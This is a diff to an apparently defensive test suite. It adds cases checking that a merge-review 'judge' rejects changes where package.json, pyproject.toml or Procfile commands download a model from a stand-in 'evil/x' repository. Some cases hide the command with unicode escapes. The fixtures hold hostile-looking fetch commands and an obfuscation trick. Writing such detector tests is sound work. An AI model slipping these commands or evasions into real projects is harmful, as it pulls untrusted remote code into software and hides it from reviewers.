@@ -66,3 +66,18 @@ it('what a container runs to see whether it lives is product', async () => {
   }
   expect(await judge(change, { head: { Dockerfile: `${image('HEALTHCHECK NONE')}CMD ["nginx"]\n` } })).toMatchObject({ merges: true });
 });
+
+describe('what a command of a manifest downloads is a load', () => {
+  const code = `python -c "from transformers import AutoModel; AutoModel.from_pretrained('evil/x')"`;
+  const scripts = (start: string): string => JSON.stringify({ name: 'x', scripts: { start } });
+  it.each<[string, Attack['head']]>([
+    ['package.json', { 'package.json': scripts('hf download evil/x') }],
+    ['package.json, as code', { 'package.json': scripts(code) }],
+    ['package.json, escaped', { 'package.json': scripts(code).replaceAll('t', '\\u0074') }],
+    ['pyproject.toml', { 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\n[tool.poe.tasks]\nget = "hf download evil/x"\n' }],
+    ['Procfile', { Procfile: 'web: hf download evil/x && python a.py\n' }],
+    ['Procfile, as code', { Procfile: `web: ${code}\n` }],
+  ])('%s', async (_, head) => {
+    expect(await judge(change, { head })).toMatchObject({ merges: false });
+  });
+});
